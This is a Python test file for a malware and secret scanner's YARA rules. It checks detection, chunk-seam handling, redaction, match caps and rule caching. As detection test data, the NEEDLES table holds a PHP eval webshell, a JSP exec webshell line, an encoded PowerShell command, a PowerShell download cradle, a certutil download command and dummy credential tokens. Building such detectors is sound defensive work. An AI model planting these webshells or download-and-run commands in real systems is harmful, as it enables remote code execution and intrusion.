import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from filescan_scanner.analyzers.base import ScanLimits, Target
from filescan_scanner.analyzers.yara_rules import BUNDLED_RULES_DIR, RulesError, YaraAnalyzer, load_rules
from tests.unit.scanner.conftest import eicar_bytes, findings

CHUNK = 4096

NEEDLES = {
    "filescan.eicar_test_file": eicar_bytes(),
    "filescan.secret_aws_access_key_id": b"AKIAQWERTYUIOPASDFGH",
    "filescan.secret_private_key_block": b"-----BEGIN OPENSSH PRIVATE KEY-----",
    "filescan.secret_github_token": b"ghp_" + b"a1B2" * 9,
    "filescan.secret_slack_token": b"xoxb-1234567890-abcdefABCDEF12",
    "filescan.secret_stripe_live_key": b"sk_live_" + b"Ab1" * 10,
    "filescan.secret_google_api_key": b"AIza" + b"B" * 35,
    "filescan.secret_jwt": b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl",
    "filescan.secret_aws_secret_access_key": b"aws_secret_access_key = " + b"Ab1/" * 10,
    "filescan.webshell_php_eval_request": b"<?php eval(base64_decode($_POST['x'])); ?>",
    "filescan.webshell_jsp_runtime_exec": b'Runtime.getRuntime().exec(request.getParameter("c"))',
    "filescan.script_powershell_encoded_command": b"powershell.exe -NoP -enc " + b"SQBFAFgA" * 16,
    "filescan.script_powershell_download_cradle": b"IEX (New-Object Net.WebClient).DownloadString('http://x')",
    "filescan.script_lolbin_download": b"certutil.exe -urlcache -split -f http://example.invalid/a.exe",
}

NEAR_MISSES = [
    b"AKIA" + b"B" * 15,
    eicar_bytes()[:40],
    b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE",
    b"eyJhbGciOiJIUzI1NiJ9 eyJzdWIiOiIxMjM0NTY3ODkwIn0",
    b"ghp_" + b"a" * 35,
    b"-----BEGIN PUBLIC KEY-----",
    b"sk_test_" + b"a" * 30,
    b"AIza" + b"B" * 30,
    b"eval($x); // $_POST handled elsewhere",
    b"powershell -enc SQBFAFgA",
    b"aws_secret_access_key = short",
]


def _wrap(needle: bytes) -> bytes:
    return b"\n" + needle + b"\n"


@pytest.mark.parametrize(("rule", "needle"), NEEDLES.items())
def test_given_each_rules_needle_when_scanned_then_that_rule_fires_once(
    scan, rule: str, needle: bytes
) -> None:  # type: ignore[no-untyped-def]
    data = b"x" * 100 + _wrap(needle) + b"y" * 100
    start = needle.find(b"eval") if "php" in rule else 0
    assert findings(scan(data)) == [(rule, 101 + start)]


@pytest.mark.parametrize("shift", [-30, -17, -1, 0, 1, 17])
def test_given_matches_straddling_a_chunk_seam_when_scanned_then_each_is_found_once(scan, shift: int) -> None:  # type: ignore[no-untyped-def]
    data = bytearray(os.urandom(CHUNK * 6).replace(b"A", b"a"))
    planted = {}
    for n, (rule, needle) in enumerate(list(NEEDLES.items())[:4]):
        offset = CHUNK * (n + 1) + shift - len(needle) // 2
        data[offset - 1 : offset + len(needle) + 1] = _wrap(needle)
        planted[rule] = offset
    got = findings(scan(bytes(data), chunk=CHUNK, overlap=1024))
    assert sorted(got) == sorted(planted.items())


def test_given_a_match_inside_the_overlap_when_scanned_then_it_is_not_duplicated(scan) -> None:  # type: ignore[no-untyped-def]
    # A match entirely inside the overlap region is seen by a chunk scan and by a seam scan.
    key = b"AKIAQWERTYUIOPASDFGH"
    data = bytearray(b"." * (CHUNK * 3))
    data[CHUNK - 200 : CHUNK - 200 + len(key)] = key
    data[CHUNK + 100 : CHUNK + 100 + len(key)] = key
    got = findings(scan(bytes(data), chunk=CHUNK, overlap=1024))
    assert got == [
        ("filescan.secret_aws_access_key_id", CHUNK - 200),
        ("filescan.secret_aws_access_key_id", CHUNK + 100),
    ]


def test_given_near_misses_when_scanned_then_no_rule_matches(scan) -> None:  # type: ignore[no-untyped-def]
    data = b"".join(b"\n" + n + b"\n" + b"z" * 50 for n in NEAR_MISSES)
    assert findings(scan(data)) == []


def test_given_64_mib_of_random_data_when_scanned_then_there_are_no_findings(rules) -> None:  # type: ignore[no-untyped-def]
    analyzer = YaraAnalyzer(rules, ScanLimits(), 64 * 1024, 16 * 1024 * 1024)
    session = analyzer.start(Target(Path("r"), "r", 64 * 1024 * 1024))
    for n in range(4):
        session.feed(memoryview(os.urandom(16 * 1024 * 1024)), n * 16 * 1024 * 1024)
    assert session.finish().findings == []


def test_given_a_secret_when_found_then_its_evidence_is_redacted(scan) -> None:  # type: ignore[no-untyped-def]
    outcome = scan(_wrap(b"AKIAQWERTYUIOPASDFGH"))
    (finding,) = [f for r in outcome.targets[0].results for f in r.findings]
    assert finding.evidence is not None and "QWERTYUIOP" not in finding.evidence


def test_given_more_matches_than_the_cap_when_scanned_then_the_cap_is_recorded_as_a_limit(scan) -> None:  # type: ignore[no-untyped-def]
    data = b"".join(_wrap(b"AKIA" + f"{n:016d}".encode()) for n in range(30))
    outcome = scan(data, max_matches_per_rule=5)
    assert len(findings(outcome)) == 5
    hits = [h for r in outcome.targets[0].results for h in r.limits_hit if h.limit == "max_matches_per_rule"]
    assert len(hits) == 1 and "30 matches" in hits[0].detail


def test_given_a_pe_header_when_scanned_then_head_rules_see_the_file_start(scan) -> None:  # type: ignore[no-untyped-def]
    pe = bytearray(b"MZ" + b"\0" * 0x3A + (0x80).to_bytes(4, "little") + b"\0" * 0x40)
    pe += b"PE\0\0" + b"\x4c\x01" + b"\0\0" + b"\0" * 400
    got = findings(scan(bytes(pe), name="a.exe"))
    assert ("filescan.pe_without_sections", None) in got


def test_given_a_pe_after_offset_zero_when_scanned_then_only_it_is_an_embedded_pe(scan) -> None:  # type: ignore[no-untyped-def]
    dos = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 52 + (0x80).to_bytes(4, "little") + b"\0" * 64 + b"PE\0\0"
    assert findings(scan(b"A" * 5000 + dos + b"B" * 100)) == [("filescan.embedded_pe_executable", 5000)]
    assert ("filescan.embedded_pe_executable", 0) not in findings(scan(dos + b"B" * 100))
    assert [r for r, _ in findings(scan(dos + b"B" * 100)) if "embedded" in r] == []


def test_given_the_bundled_rules_when_classic_yara_compiles_them_then_they_match_eicar(
    tmp_path: Path,
) -> None:
    yara = shutil.which("yara")
    assert yara, "the Debian yara package is required (make system-deps)"
    sample = tmp_path / "s"
    sample.write_bytes(b"x" * 10 + eicar_bytes())
    rule_files = sorted(str(p) for p in BUNDLED_RULES_DIR.glob("*.yar"))
    out = subprocess.run([yara, "-w", *rule_files, str(sample)], capture_output=True, text=True, check=True)
    assert "eicar_test_file" in out.stdout


def test_given_the_bundled_rules_when_read_then_every_rule_has_category_severity_and_title(rules) -> None:  # type: ignore[no-untyped-def]
    for path in BUNDLED_RULES_DIR.glob("*.yar"):
        text = path.read_text()
        for body in re.split(r"\nrule ", text)[1:]:
            for field in ("category", "severity", "title"):
                assert f"{field} = " in body, (path.name, body[:40], field)


def test_given_extra_rules_when_loaded_then_they_get_a_namespace_and_bad_files_are_named(
    tmp_path: Path,
) -> None:
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / "mine.yar").write_text(
        'rule my_marker { meta: category = "suspicious" severity = "low" title = "m" '
        'strings: $a = "FILESCAN-MARKER" condition: $a }'
    )
    rules = load_rules(extra)
    assert rules.namespaces == ("filescan", "extra")
    assert "+extra." in rules.version
    (extra / "bad.yar").write_text("rule broken { condition: nonsense_identifier }")
    with pytest.raises(RulesError, match=r"bad\.yar"):
        load_rules.__wrapped__(extra)


def test_given_a_compiled_rules_cache_when_loading_then_it_is_used_unless_writable_or_corrupt(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import yara_x  # noqa: PLC0415

    cache = tmp_path / "cache"
    eicar = eicar_bytes()
    compiled = load_rules.__wrapped__(None, BUNDLED_RULES_DIR, cache)
    entries = sorted(cache.glob("*.yarx"))
    assert len(entries) == len(compiled.stream_groups) + 1  # each stream group and the head rule set

    class NoCompiler:
        def __init__(self) -> None:
            raise AssertionError("compiled although cached")

    with monkeypatch.context() as patch:
        patch.setattr(yara_x, "Compiler", NoCompiler)
        cached = load_rules.__wrapped__(None, BUNDLED_RULES_DIR, cache)
    assert cached.version == compiled.version
    hits = yara_x.Scanner(cached.stream_groups[0]).scan(b"..." + eicar + b"...").matching_rules
    assert [r.identifier for r in hits] == ["eicar_test_file"]

    # A cache directory others can write to is not believed; a corrupt entry is recompiled.
    os.chmod(cache, 0o777)
    with monkeypatch.context() as patch, pytest.raises(AssertionError, match="compiled although cached"):
        patch.setattr(yara_x, "Compiler", NoCompiler)
        load_rules.__wrapped__(None, BUNDLED_RULES_DIR, cache)
    os.chmod(cache, 0o755)
    for entry in entries:
        entry.write_bytes(b"not rules")
    again = load_rules.__wrapped__(None, BUNDLED_RULES_DIR, cache)
    assert [r.identifier for r in yara_x.Scanner(again.stream_groups[0]).scan(eicar).matching_rules] == [
        "eicar_test_file"
    ]
    assert all(entry.read_bytes() != b"not rules" for entry in entries)


def test_given_rule_files_using_nocase_when_compiled_then_they_get_a_group_of_their_own() -> None:
    rules = load_rules.__wrapped__(None, BUNDLED_RULES_DIR, None)

    # eicar, embedded_pe, secrets and webshells share one group; scripts (nocase) gets its own.
    assert len(rules.stream_groups) == 2
